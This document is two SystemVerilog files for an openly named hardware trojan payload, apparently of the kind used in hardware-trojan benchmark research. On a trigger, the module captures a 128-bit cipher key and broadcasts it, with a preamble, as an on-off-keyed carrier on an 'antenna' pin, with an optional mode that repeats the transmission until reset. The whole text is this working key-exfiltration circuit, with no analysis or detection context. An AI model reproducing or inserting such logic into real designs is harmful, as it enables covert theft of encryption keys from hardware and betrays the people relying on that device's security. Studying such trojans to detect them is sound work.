// File: rtl/trojan_leak_payload_if.sv
// -----------------------------------------------------------------------------
// trojan_leak_payload_if
// Bundles the observation inputs and leakage outputs of the key-leak payload.
//   Tj_Trig : trigger level from the upstream detector (to payload)
//   key     : 128-bit cipher key, sampled only at frame capture (to payload)
//   antenna : registered OOK leakage output (from payload)
//   busy    : frame in progress (from payload)
//   done    : one-cycle pulse after the last key bit (from payload)
// master = trigger/key source side, slave = payload side.
// -----------------------------------------------------------------------------
interface trojan_leak_payload_if;
   logic         Tj_Trig;
   logic [127:0] key;
   logic         antenna;
   logic         busy;
   logic         done;

   modport master (
      output Tj_Trig,
      output key,
      input  antenna,
      input  busy,
      input  done
   );

   modport slave (
      input  Tj_Trig,
      input  key,
      output antenna,
      output busy,
      output done
   );
endinterface

// File: rtl/trojan_leak_payload.sv
// -----------------------------------------------------------------------------
// trojan_leak_payload
// On a rising edge of Tj_Trig, snapshots {PREAMBLE, key} and sends it MSB first
// as an on-off-keyed carrier on antenna: BIT_CYCLES clocks per bit, carrier
// half-period CARRIER_DIV clocks. The AES datapath is only observed.
//   clk  : sole clock, rising edge
//   rst  : asynchronous active-high reset
//   bus  : trojan_leak_payload_if.slave (Tj_Trig, key in; antenna, busy, done out)
// Optional feature macro: TJ_LEAK_REPEAT_EN -- when defined, END reloads the
// captured frame and transmission repeats until reset.
// -----------------------------------------------------------------------------
module trojan_leak_payload #(
   parameter int         BIT_CYCLES  = 16,
   parameter int         CARRIER_DIV = 2,
   parameter logic [7:0] PREAMBLE    = 8'hA5
) (
   input  logic                  clk,
   input  logic                  rst,
   trojan_leak_payload_if.slave  bus
);

   localparam int            CW       = (BIT_CYCLES > 1) ? $clog2(BIT_CYCLES) : 1;
   localparam logic [CW-1:0] CNT_LAST = CW'(BIT_CYCLES - 1);
   localparam logic [CW-1:0] CNT_ONE  = CW'(1);
   localparam logic [CW-1:0] CDIV     = CW'(CARRIER_DIV);

   typedef enum logic [1:0] {
      ST_IDLE = 2'd0,
      ST_PRE  = 2'd1,
      ST_KEY  = 2'd2,
      ST_END  = 2'd3
   } state_t;

   state_t          state_r, state_s;
   logic [CW-1:0]   cnt_r, cnt_s;
   logic [7:0]      idx_r, idx_s;
   logic [135:0]    sr_r, sr_s;
   logic            trig_q_r;
   logic            antenna_r, antenna_s;
   logic            busy_r, busy_s;
   logic            done_r, done_s;
   logic            start_s;
   logic            wrap_s;
   logic            phase_s;
   logic [CW-1:0]   quot_s;
`ifdef TJ_LEAK_REPEAT_EN
   logic [127:0]    key_snap_r, key_snap_s;
`endif

   assign start_s = bus.Tj_Trig & ~trig_q_r;
   assign wrap_s  = (cnt_r == CNT_LAST);
   // Carrier is high during even half-periods of the bit window.
   assign quot_s  = cnt_r / CDIV;
   assign phase_s = ~quot_s[0];

   assign bus.antenna = antenna_r;
   assign bus.busy    = busy_r;
   assign bus.done    = done_r;

   // Next-state, datapath and registered-output decode for the frame FSM.
   always_comb begin
      state_s   = state_r;
      cnt_s     = cnt_r;
      idx_s     = idx_r;
      sr_s      = sr_r;
      antenna_s = 1'b0;
      busy_s    = (state_r != ST_IDLE);
      done_s    = (state_r == ST_END);
`ifdef TJ_LEAK_REPEAT_EN
      key_snap_s = key_snap_r;
`endif
      case (state_r)
         ST_IDLE: begin
            // busy_r still high means the done cycle of the previous frame;
            // a new frame is only accepted once busy has dropped.
            if (start_s && !busy_r) begin
               state_s = ST_PRE;
               sr_s    = {PREAMBLE, bus.key};
               cnt_s   = '0;
               idx_s   = 8'd0;
`ifdef TJ_LEAK_REPEAT_EN
               key_snap_s = bus.key;
`endif
            end else begin
               state_s = ST_IDLE;
            end
         end
         ST_PRE, ST_KEY: begin
            antenna_s = sr_r[135] & phase_s;
            if (wrap_s) begin
               cnt_s = '0;
               sr_s  = {sr_r[134:0], 1'b0};
               idx_s = idx_r + 8'd1;
               if ((state_r == ST_PRE) && (idx_r == 8'd7)) begin
                  state_s = ST_KEY;
               end else if ((state_r == ST_KEY) && (idx_r == 8'd135)) begin
                  state_s = ST_END;
               end else begin
                  state_s = state_r;
               end
            end else begin
               cnt_s = cnt_r + CNT_ONE;
            end
         end
         ST_END: begin
`ifdef TJ_LEAK_REPEAT_EN
            state_s = ST_PRE;
            sr_s    = {PREAMBLE, key_snap_r};
            cnt_s   = '0;
            idx_s   = 8'd0;
`else
            state_s = ST_IDLE;
`endif
         end
         default: begin
            state_s = ST_IDLE;
         end
      endcase
   end

   // State, counters, shift register, trigger history and output registers.
   always_ff @(posedge clk or posedge rst) begin
      if (rst) begin
         state_r   <= ST_IDLE;
         cnt_r     <= '0;
         idx_r     <= 8'd0;
         sr_r      <= 136'd0;
         trig_q_r  <= 1'b0;
         antenna_r <= 1'b0;
         busy_r    <= 1'b0;
         done_r    <= 1'b0;
`ifdef TJ_LEAK_REPEAT_EN
         key_snap_r <= 128'd0;
`endif
      end else begin
         state_r   <= state_s;
         cnt_r     <= cnt_s;
         idx_r     <= idx_s;
         sr_r      <= sr_s;
         trig_q_r  <= bus.Tj_Trig;
         antenna_r <= antenna_s;
         busy_r    <= busy_s;
         done_r    <= done_s;
`ifdef TJ_LEAK_REPEAT_EN
         key_snap_r <= key_snap_s;
`endif
      end
   end

endmodule
